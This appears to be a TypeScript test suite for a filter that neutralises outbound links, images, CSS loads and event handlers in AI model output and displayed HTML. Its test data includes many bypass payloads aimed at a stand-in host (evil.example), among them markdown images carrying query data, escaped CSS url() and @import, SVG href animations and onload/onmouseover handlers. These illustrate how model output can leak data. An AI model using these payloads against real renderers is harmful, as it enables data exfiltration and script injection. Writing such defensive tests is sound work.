import { describe, expect, it } from 'vitest'
import { profileSchema } from '../../../../src/filters/profile.ts'
import { never, stream, testScreener } from '../../../support/filters/filter-fixtures.ts'
import { verifies } from '../../../support/verifies.ts'

const leaves = (text: string) => stream([text], testScreener())
const inHtml = async (text: string) =>
  (await testScreener().texts([{ text, provenance: 'tool', form: 'html' }], never))[0]

describe('pictures and links that lead elsewhere', () => {
  it.each([
    ['a picture', '![x](https://evil.example/p?d=1)', '![x] (https://evil.example/p?d=1)'],
    ['a link, with its address beside it', '[x](https://evil.example/p)', '[x] (https://evil.example/p)'],
    ['an address in angle brackets', '![x](<https://evil.example/p>)', '![x] (<https://evil.example/p>)'],
    ['an address on the next line', '![x](\nhttps://evil.example/p)', '![x] (\nhttps://evil.example/p)'],
    ['an address without a scheme', '![x](//evil.example/p)', '![x] (//evil.example/p)'],
    ['backslashes for slashes', '![x](/\\evil.example/p)', '![x] (/\\evil.example/p)'],
    ['a reference in the address', '![x](&#104;ttps://evil.example/p)', '![x] (&#104;ttps://evil.example/p)'],
    ['a picture in a link', '[![x](//a.example/p)](//b.example)', '[![x] (//a.example/p)] (//b.example)'],
    ['a label with brackets in it', '![a [b] c](https://evil.example)', '![a [b] c] (https://evil.example)'],
    ['a definition', '![x][r]\n\n[r]: https://evil.example/p', '![x][r]\n\n[r] : https://evil.example/p'],
    ['a definition on two lines', '[r]:\n  <https://evil.example>', '[r] :\n  <https://evil.example>'],
    ['a definition in a quotation', '> [r]:\n> https://evil.example/p', '> [r] :\n> https://evil.example/p'],
    ['one in two quotations', '>> [r]:\n> > <//evil.example>', '>> [r] :\n> > <//evil.example>'],
    ['a tab between two slashes', '[r]: </\t/evil.example>', '[r] : </\t/evil.example>'],
    ['an image tag', '<img src="https://evil.example/p">', '< img src="https://evil.example/p">'],
    ['capitals and a line break', '<IMG\nSRCSET="//evil.example/p 2x">', '< IMG\nSRCSET="//evil.example/p 2x">'],
    ['a style', '<p style="background:url(//evil.example)">', '< p style="background:url(//evil.example)">'],
    ['a tag nobody knows', '<x-y\tstyle=a>', '< x-y\tstyle=a>'],
    ['blanks before the attribute', `<p${' '.repeat(900)}style=a>`, `< p${' '.repeat(900)}style=a>`],
    ['a style sheet', '<style>@import "//evil.example"</style>', '< style>@import "//evil.example"</style>'],
  ])("S5: are disarmed in a model's words: %s", async (_what, text, expected) => {
    verifies('links.disarmed')
    expect(await leaves(text)).toBe(expected)
  })

  it.each([
    'See [the chart](/v1/artifacts/a1b2) and [below](#totals).',
    '![chart](charts/revenue.png "Revenue")',
    'Read <https://example.com/help>, or https://example.com/a?b=c.',
    'x[0] and y[1]: both are 3; f(a)[2](b) is called.',
    'H<sub>2</sub>O, <b>bold</b>, a<br/>b and 1 < 2 > 0.',
    '```python\nd = {"a": [1, 2](0)}\nprint(rows[1:3])\n```',
  ])('S5: stay where they lead nowhere else: %s', async (text) => {
    expect(await leaves(text)).toBe(text)
  })

  it.each([
    '<img srcset="data:image/png;base64,AA 1x, //evil.example 2x">',
    '<img lowsrc=//evil.example>',
    '<div style="background:u\\72l(//evil.example)">',
    '<div style="background:ur\\6c(//evil.example)">',
    `<div style="background:image-set('//evil.example' 1x)">`,
    '<style>@im\\port "//evil.example"</style>',
    '<svg><set attributeName=href to=//evil.example>',
    `<div style="background:src('//evil.example')">`,
    `<div style="background:cross-fade('//evil.example', red)">`,
    '<svg><animate attributeName="href" values="//evil.example"/></svg>',
  ])('S5: are disarmed in HTML that a run displays: %s', async (text) => {
    expect(await inHtml(text)).not.toBe(text)
  })

  it('S5: leave formulas and functions in displayed HTML alone', async () => {
    const text = '<p>\\sin(x) and \\frac(1)(2), curl(f), set(a)</p>'
    expect(await inHtml(text)).toBe(text)
  })

  it('S5: are disarmed in the same way however the words arrive', async () => {
    const text = `${'Here is what the data says about it. '.repeat(9)}![x](https://evil.example/p?d=1) and <img src=//e.example>`
    const whole = await leaves(text)
    expect(whole).toContain('![x] (https://evil.example/p?d=1) and < img src=//e.example>')
    for (const size of [1, 2, 7]) {
      expect(await stream(text.match(new RegExp(`[^]{1,${size}}`, 'g')) ?? [], testScreener())).toBe(whole)
    }
  })

  it('S5: stay for a group whose profile allows them', async () => {
    verifies('links.allowed')
    const profile = profileSchema.parse({ outbound: { link: { action: 'allow' } } })
    const text = '![x](https://example.com/p.png)'
    expect(await stream([text], testScreener({ profile }))).toBe(text)
  })

  it('S5: are said to have been disarmed', async () => {
    const screener = testScreener()
    await stream(['![x](https://evil.example/p)'], screener)
    expect(screener.takeFindings()).toMatchObject([
      { rule: 'filter/link-inline', message: '1 foreign link or picture was disarmed.' },
    ])
  })

  it.each([
    ['<img src="https://evil.example/p">', '<img src-withheld="https://evil.example/p">'],
    ['<td style="background: url(//e.example/p)">', '<td style="background: url-withheld(//e.example/p)">'],
    ['<image xlink:href="http://e.example/p"/>', '<image xlink:href-withheld="http://e.example/p"/>'],
    ['<style>@import "//e.example"</style>', '<style>@withheld "//e.example"</style>'],
    ['<script src=x></script>', '< script src-withheld=x></script>'],
  ])('S5: load nothing from a display of HTML or SVG: %s', async (text, expected) => {
    verifies('links.disarmed-in-displays')
    expect(await inHtml(text)).toBe(expected)
  })

  it.each([
    ['<p style="background:url&#40;//e.example/a)">', '<p style-withheld="background:url&#40;//e.example/a)">'],
    ['<p style="background:url&lpar;//e.example/a)">', '<p style-withheld="background:url&lpar;//e.example/a)">'],
    ["<p style='background:u&#114;l(//e.example)'>", "<p style-withheld='background:u&#114;l(//e.example)'>"],
    ['<p style=background:url&#x28;//e.example)>', '<p style-withheld=background:url&#x28;//e.example)>'],
    ['<svg><style>a{fill:url&#40;//e.example)}</style>', '<svg>< style>a{fill:url&#40;//e.example)}</style>'],
    ['<p onclick="x()">', '<p onclick-withheld="x()">'],
    ['<p title=">"onmouseover = x()>', '<p title=">"onmouseover-withheld= x()>'],
    ['<svg/onload=x()>', '<svg/onload-withheld=x()>'],
  ])('S5: have no character reference in a style and no handler: %s', async (text, expected) => {
    verifies('links.handlers')
    expect(await inHtml(text)).toBe(expected)
  })

  it.each([
    '<span style="font-family: &quot;Open Sans&quot;, &apos;Arial&#39;">a &lt; b</span> &#40;c)',
    '<p>onset = 3, only = 4, ontology= 5, image(x), src(2)</p>',
    '<style>td { color: red }</style><td>a &amp; b &eacute;</td>',
  ])('S5: what is none of these in displayed HTML stays: %s', async (text) => {
    expect(await inHtml(text)).toBe(text)
  })

  it.each([
    '<table border="1" class="dataframe"><tr><td>1</td></tr></table>',
    '<style type="text/css">#T_1 td { color: red }</style>',
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    '<svg xmlns="http://www.w3.org/2000/svg"><use xlink:href="#m1"/><path clip-path="url(#p1)"/></svg>',
  ])('S5: a display without any stays as it is: %s', async (text) => {
    expect(await inHtml(text)).toBe(text)
  })
})
